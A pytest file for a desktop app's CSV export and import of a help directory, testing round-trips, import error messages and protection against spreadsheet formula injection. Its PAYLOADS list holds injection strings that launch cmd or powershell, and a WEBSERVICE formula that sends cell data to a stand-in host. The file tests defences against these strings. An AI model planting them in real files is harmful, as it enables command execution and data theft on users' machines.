"""The directory of help as a CSV file: runs nothing, comes back as it was, and is refused with every mistake named."""

import csv
import datetime
import io
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recovery_desktop.exchange import directory_in
from recovery_desktop.exchange.csv_cells import csv_of, guarded, rows_of, unguarded
from recovery_desktop.exchange.directory_in import (
    BadDirectoryFile,
    EntryTwice,
    FileNotRead,
    changes_of,
    read_directory,
    read_directory_at,
    take_over,
)
from recovery_desktop.exchange.directory_out import DirectoryNotWritten, directory_file, write_directory
from recovery_desktop.records.fields import Line, Text
from recovery_desktop.records.practice import Resource
from recovery_desktop.records.store import Store
from recovery_desktop.vault import DiskFailed
from tests.people import sample

RUNS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    *("=1+1", "=1+1|cmd", "=cmd|' /C calc'!A0", "=cmd|'/C powershell'!A1", '=HYPERLINK("http://x.example","See")'),
    *('=WEBSERVICE("http://x.example/"&A1)', "=IMPORTXML(A1,B1)", "=1;2", "=SUM(1+9)*cmd|' /C calc'!A0", "=", '=""'),
    *("+1+1", "+1 555 0100", "+cmd|' /C calc'!A0", "+SUM(A1:A9)", "+", "++1", "+\t1", "+=1"),
    *("-1+1", "-2+3+cmd|' /C calc'!A0", "-", "-1", "--1", "-=1", "- a list"),
    *("@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0", "@", "@home", "@@1", "@=1"),
    *("'=1+1", "''=1+1", "'-1", "'@SUM(A1)", "'quoted' words", '"=1+1', ",=1+1", ";=1+1"),
)
WRITTEN = [name for name, one in Resource.described().items() if isinstance(one, (Line, Text))]
ENTRY: dict[str, Any] = {
    "name": "Harbor Food Bank",
    "kind": "Food",
    "needs": ["physical", "money"],
    "phone": "555-0190",
    "address": "4 Dock Road\nMillbrook",
    "website": "foodbank.example",
    "cost": "Free",
    "hours": "Friday, 10:00 to 14:00",
    "languages": "English; español",
    "eligibility": "Anybody, “no questions”",
    "verified_on": datetime.date(2026, 8, 20),
    "note": 'Ask for "Bea"',
}


def cells(content: bytes) -> list[list[str]]:
    """What a spreadsheet program sees."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def values(one: Resource) -> dict[str, Any]:
    return {name: getattr(one, name) for name in Resource.described()}


def directory() -> list[dict[str, Any]]:
    return [values(one) for one in Resource.select().order_by(Resource.name, Resource.id)]


def take(store: Store, content: bytes) -> tuple[int, int, int]:
    """Takes a file over; how many were new, changed and as they are."""
    changes = changes_of(read_directory(content))
    store.vault.write(lambda: take_over(store, changes))
    return len(changes.added), len(changes.changed), changes.same


def emptied(store: Store) -> None:
    for one in Resource.select():
        store.remove(one)


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("column", WRITTEN)
def test_no_cell_of_any_column_is_run_and_each_comes_back(store: Store, column: str) -> None:
    for at, payload in enumerate(PAYLOADS):
        held = "".join(sign for sign in payload if sign != "\t") if column not in ("note", "address") else payload
        store.add(Resource, **({"name": f"Entry {at}", "phone": str(at)} | {column: held}))
    before, content = directory(), directory_file()
    for row in cells(content):
        assert not [cell for cell in row if cell.startswith(RUNS)]
    emptied(store)
    take(store, content)
    assert directory() == before


@pytest.mark.parametrize("start", [*RUNS, "\n", "＝", "＠", "'=", "'''\t"])
def test_a_sign_that_runs_gets_an_apostrophe(start: str) -> None:
    assert guarded(f"{start}1") == f"'{start}1"
    assert unguarded(f"'{start}1") == f"{start}1"


@pytest.mark.parametrize("cell", ["", "Food", "'Til late", "''", "1=1", "a\t=", " =1", "“=”"])
def test_other_cells_stay(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


ANY_CELL = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\0") | st.sampled_from("'=+-@\t\r\n\",")
)


@given(st.lists(st.lists(ANY_CELL, min_size=1, max_size=4), min_size=1, max_size=5))
def test_every_cell_comes_back_and_none_runs(rows: list[list[str]]) -> None:
    content = csv_of(rows)
    assert rows_of(content.decode("utf-8-sig"), 10_000) == rows
    assert not [cell for row in cells(content) for cell in row if cell.startswith(RUNS)]


def test_the_file_is_as_spreadsheet_programs_want_it(store: Store) -> None:
    store.add(Resource, **ENTRY)
    content = directory_file()
    assert content.startswith(b"\xef\xbb\xbf")
    heads = '"Name","Kind of help","Helps with","Phone","Address","Website","Cost","Hours","Languages"'
    assert content.decode("utf-8-sig").startswith(f'{heads},"Who can use it","Last verified on","Note"\r\n')
    assert cells(content)[1][2] == "physical; money"
    assert cells(content)[1][10] == "2026-08-20"


def test_a_whole_entry_comes_back(store: Store) -> None:
    store.add(Resource, **ENTRY)
    store.add(Resource, name="Nothing but a name")
    before, content = directory(), directory_file()
    emptied(store)
    assert take(store, content) == (2, 0, 0)
    assert directory() == before
    assert take(store, content) == (0, 0, 2)


def test_the_sample_practice_s_directory_comes_back(store: Store) -> None:
    sample(store, "priya-shah")
    before, content = directory(), directory_file()
    assert before
    assert take(store, content) == (0, 0, len(before))
    assert directory() == before


def test_an_entry_of_the_same_name_and_phone_is_updated_and_keeps_what_the_file_leaves_empty(store: Store) -> None:
    row = store.add(Resource, **ENTRY)
    other = csv_of([cells(directory_file())[0], ["Harbor Food Bank", "", "legal", "555-0190", *[""] * 7, "New note"]])
    assert take(store, other) == (0, 1, 0)
    assert directory() == [ENTRY | {"needs": ["legal"], "note": "New note"}]
    assert Resource.get().id == row.id


def test_two_of_one_name_are_told_apart_by_what_else_they_say(store: Store) -> None:
    for kind in ("Shelter", "Shop"):
        store.add(Resource, name="Salvation Army", kind=kind)
    heads = cells(directory_file())[0]
    rows = [["Salvation Army", "Shop", *[""] * 9, "Sells chairs"], ["Salvation Army", "Shelter", *[""] * 10]]
    assert take(store, csv_of([heads, *rows])) == (0, 1, 1)
    assert {one.kind: one.note for one in Resource.select()} == {"Shelter": "", "Shop": "Sells chairs"}


def test_a_row_that_stands_twice_in_a_file_is_taken_once(store: Store) -> None:
    store.add(Resource, **ENTRY)
    heads, row = cells(directory_file())
    emptied(store)
    assert take(store, csv_of([heads, row, row])) == (1, 0, 1)


def file_of(*rows: dict[int, str]) -> bytes:
    """A file with these cells, by column."""
    heads = [str(one.verbose_name) for one in Resource.described().values()]
    return csv_of([heads, *[[row.get(at, "") for at in range(len(heads))] for row in rows]])


@pytest.mark.parametrize("is_known", [True, False])
@pytest.mark.parametrize("name", ["Food bank", "FOOD bank "])
def test_a_second_row_of_one_entry_is_refused_by_number(store: Store, is_known: bool, name: str) -> None:
    if is_known:
        store.add(Resource, name="Food bank", phone="1", note="old")
    before = directory()
    rows = {0: "Food bank", 3: "1", 11: "a"}, {}, {0: name, 3: " 1", 11: "b"}
    with pytest.raises(EntryTwice) as refused:
        take(store, file_of(*rows))
    assert "Rows 2 and 4" in refused.value.cause
    assert directory() == before


@pytest.mark.parametrize("name", ["Food bank ", " Food bank"])
@pytest.mark.parametrize("kept", ["Food bank", "Food bank "])
def test_spaces_around_a_name_make_no_other_entry(store: Store, name: str, kept: str) -> None:
    store.add(Resource, name=kept, phone="1")
    assert take(store, file_of({0: name, 3: "1 "})) == (0, 0, 1)
    assert take(store, file_of({0: name.upper(), 3: "1", 11: "new"})) == (0, 1, 0)
    assert [(one.name, one.note) for one in Resource.select()] == [("FOOD BANK", "new")]


def test_columns_may_stand_in_any_order_and_choices_in_words(store: Store) -> None:
    store.add(Resource, **ENTRY)
    heads, row = cells(directory_file())
    row[2] = "Physical ;MONEY;"
    emptied(store)
    assert take(store, csv_of([heads[::-1], row[::-1], [""] * 12])) == (1, 0, 0)
    assert directory() == [ENTRY]


def test_a_sheet_that_another_program_wrote_is_read_without_apostrophes(store: Store) -> None:
    heads = cells(directory_file())[0]
    written = io.StringIO()
    csv.writer(written).writerows([heads, ["=1+1", *[""] * 11]])
    take(store, written.getvalue().encode())
    assert Resource.get().name == "=1+1"


def with_cell(column: int, cell: str) -> bytes:
    heads = [str(one.verbose_name) for one in Resource.described().values()]
    row = ["Harbor Food Bank", *[""] * 10, "Note"]
    row[column] = cell
    return csv_of([heads, ["Fine", *[""] * 11], row])


MISTAKES: dict[str, tuple[bytes, str]] = {
    "no name": (with_cell(0, " "), "Row 3, Name: Enter something here."),
    "two lines": (with_cell(1, "a\nb"), "Row 3, Kind of help: Write this on one line"),
    "unknown need": (with_cell(2, "physical; chess"), "Row 3, Helps with: Choose from"),
    "need twice": (with_cell(2, "money; Money"), "Row 3, Helps with: Name each choice once."),
    "no such day": (with_cell(10, "2026-02-30"), "Row 3, Last verified on: This day does not exist"),
    "another date": (with_cell(10, "8/20/2026"), "Row 3, Last verified on: Enter a date such as 2026-09-10."),
    "too long": (with_cell(3, "5" * 501), "Row 3, Phone: This text is too long"),
    "nul": (with_cell(11, "a\0b"), "Row 3, Note: Remove the NUL character."),
    "short row": (with_cell(0, "Fine") + b'"Fine","x"\r\n', "Row 4: it has 2 cells, but there are 12 columns."),
    "other head": (csv_of([["Name", "Colour"]]), "Row 1, column 2: the program does not know this head."),
    "missing column": (csv_of([["Name"]]), "Row 1: the column “Phone” is missing."),
    "head twice": (csv_of([["Name", "name"]]), "Row 1: the column “Name” stands there twice."),
    "empty": (b"", "The file is empty."),
    "latin": (with_cell(0, "Fine").replace(b"Fine", b"Caf\xe9"), "save it as “CSV UTF-8”"),
    "open quote": (b'"Name', "The file is damaged or is not a CSV file."),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0", "The file is not in UTF-8."),
    "large": (b" " * (directory_in.MOST_BYTES + 1), "The file is larger than 10 MB."),
    "many rows": (csv_of([["Name"]] * (directory_in.MOST_ROWS + 2)), "The file has more than 1000 rows."),
}


@pytest.mark.parametrize("kind", MISTAKES)
def test_a_bad_file_is_refused_whole_with_row_and_column(store: Store, kind: str) -> None:
    content, words = MISTAKES[kind]
    with pytest.raises(BadDirectoryFile) as refused:
        read_directory(content)
    assert [problem for problem in refused.value.problems if words in problem]
    assert "Harbor" not in str(refused.value)
    assert directory() == []


def test_many_mistakes_are_counted_and_the_first_are_named() -> None:
    heads = [str(one.verbose_name) for one in Resource.described().values()]
    with pytest.raises(BadDirectoryFile) as refused:
        read_directory(csv_of([heads, *[[" ", "kind", *[""] * 10]] * 7]))
    assert refused.value.cause == "The file has 7 mistakes."
    assert "Row 6, Name" in refused.value.remedy
    assert "Row 7" not in refused.value.remedy
    assert refused.value.remedy.endswith("; and 2 more.")


@given(st.binary(max_size=200))
def test_no_file_breaks_the_reading(content: bytes) -> None:
    try:
        read_directory(content)
    except BadDirectoryFile as error:
        assert error.problems


def test_when_the_disk_does_not_take_it_nothing_of_it_is_there(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    kept, add = [], store.add

    def fails_later(*given: Any, **values: Any) -> Any:
        kept.append(values)
        if len(kept) > 1:
            raise OSError("the disk is gone")
        return add(*given, **values)

    monkeypatch.setattr(store, "add", fails_later)
    heads = cells(directory_file())[0]
    with pytest.raises(DiskFailed):
        take(store, csv_of([heads, *[[f"Entry {at}", *[""] * 11] for at in range(3)]]))
    assert len(kept) == 2
    assert directory() == []


def test_the_file_is_written_whole_or_not_at_all(store: Store, tmp_path: Path) -> None:
    store.add(Resource, **ENTRY)
    target = tmp_path / "directory.csv"
    write_directory(directory_file(), target)
    assert target.read_bytes() == directory_file()
    if os.name == "posix":
        assert target.stat().st_mode & 0o777 == 0o600
    assert read_directory_at(target) == read_directory(directory_file())
    with pytest.raises(FileNotRead):
        read_directory_at(tmp_path)
    with pytest.raises(DirectoryNotWritten):
        write_directory(b"", tmp_path / "nowhere" / "directory.csv")
